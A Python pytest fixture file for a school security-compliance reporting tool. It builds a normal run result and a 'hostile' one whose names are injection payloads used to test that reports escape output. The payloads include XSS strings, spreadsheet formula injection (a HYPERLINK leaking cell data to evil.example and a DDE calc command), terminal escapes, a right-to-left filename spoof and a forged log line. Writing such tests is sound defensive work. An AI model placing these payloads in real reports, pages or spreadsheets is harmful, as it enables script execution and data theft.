"""Hand-built run results for the report tests: an ordinary one and a hostile one."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from enforcer.model.values import (
    Finding,
    PackInfo,
    Remediation,
    RunResult,
    Severity,
    SourceStatus,
    Status,
    Subject,
    SubjectKind,
    fingerprint,
)

AS_OF = datetime(2025, 1, 15, 2, 0, tzinfo=UTC)

HOSTILE_NAMES = (
    '<script>alert("x")</script>',
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "  =1+1",
    "\t=1",
    "\r=1",
    "esc\x1b[31mred\x1b[0m and bell\x07 and nul\x00",
    "gpj.\u202eexe",
    "Zoë Ødegård-Łukasiewicz 山田 🙂",
    "x" * 5000,
    "lone \ud800 surrogate",
    "</style><style>body{display:none}</style>",
    "javascript:alert(1)",
    "line one\nRun complete: every source was read.",
)


def make_finding(
    rule: str,
    status: Status,
    severity: Severity,
    kind: SubjectKind,
    sid: str,
    name: str | None,
    *,
    evidence: dict | None = None,
    message: str = "message",
    title: str | None = None,
    exception: dict | None = None,
    source: str = "demo",
    owner: str | None = None,
) -> Finding:
    subject = Subject(kind=kind, id=sid, name=name, source=source, owner=owner)
    return Finding(
        rule=rule,
        title=title or f"Title of {rule}",
        status=status,
        severity=severity,
        subject=subject,
        evidence=evidence or {},
        message=message,
        clause=f"Clause for {rule}",
        remediation=Remediation(advice=f"Fix {rule}", action="force-password-change"),
        fingerprint=fingerprint(rule, subject),
        exception=exception,
    )


def make_result(
    findings: list[Finding],
    *,
    complete: bool = True,
    school: str = "Test Primary School",
    run_id: str = "20250115T020000Z",
) -> RunResult:
    sources = [SourceStatus(name="demo", type="demo", ok=True, counts={"accounts": 3, "devices": 2})]
    if not complete:
        sources.append(SourceStatus(name="ad", type="ad", ok=False, error="LDAP server unreachable"))
    return RunResult(
        run_id=run_id,
        started=AS_OF,
        finished=datetime(2025, 1, 15, 2, 1, 30, tzinfo=UTC),
        as_of=AS_OF,
        school=school,
        pack=PackInfo(name="primary-school", version="1.0", path="/packs/primary-school.yaml"),
        sources=tuple(sources),
        findings=tuple(findings),
    )


@pytest.fixture
def ordinary() -> RunResult:
    A, D = SubjectKind.ACCOUNT, SubjectKind.DEVICE
    return make_result(
        [
            make_finding(
                "staff-password-max-age",
                Status.FAIL,
                Severity.HIGH,
                A,
                "u1",
                "alice",
                evidence={"password_last_set": "2024-09-01T00:00:00Z", "age_days": 136},
                message="password last set 136 days ago (limit 90)",
            ),
            make_finding("staff-password-max-age", Status.PASS, Severity.HIGH, A, "u2", "bob"),
            make_finding(
                "staff-password-max-age",
                Status.ERROR,
                Severity.HIGH,
                A,
                "u3",
                "carol",
                evidence={"password_last_set": None},
                message="password last set is unknown",
            ),
            make_finding(
                "laptop-encrypted",
                Status.FAIL,
                Severity.CRITICAL,
                D,
                "d1",
                "LAPTOP-01",
                evidence={"encrypted": False},
                owner="alice",
                message="disk not encrypted",
            ),
            make_finding(
                "laptop-encrypted",
                Status.EXCEPTED,
                Severity.CRITICAL,
                D,
                "d2",
                "LAPTOP-02",
                evidence={"encrypted": False},
                message="disk not encrypted",
                exception={"reason": "awaiting replacement", "approver": "head", "expires": "2025-02-01"},
            ),
            make_finding("domain-lockout", Status.PASS, Severity.MEDIUM, SubjectKind.DOMAIN, "dom", "SCHOOL"),
        ]
    )


@pytest.fixture
def hostile() -> RunResult:
    findings = []
    for i, name in enumerate(HOSTILE_NAMES):
        for kind in (SubjectKind.ACCOUNT, SubjectKind.DEVICE):
            findings.append(
                make_finding(
                    "hostile-rule",
                    Status.FAIL,
                    Severity.HIGH,
                    kind,
                    f"id-{i}",
                    name,
                    evidence={name[:60]: name, "nested": {"k": [name]}},
                    owner=name,
                    message=f"message {name}",
                    title=f"title {name[:100]}",
                )
            )
    return make_result(findings, school='<b>School</b> "&" \u202e', complete=False)
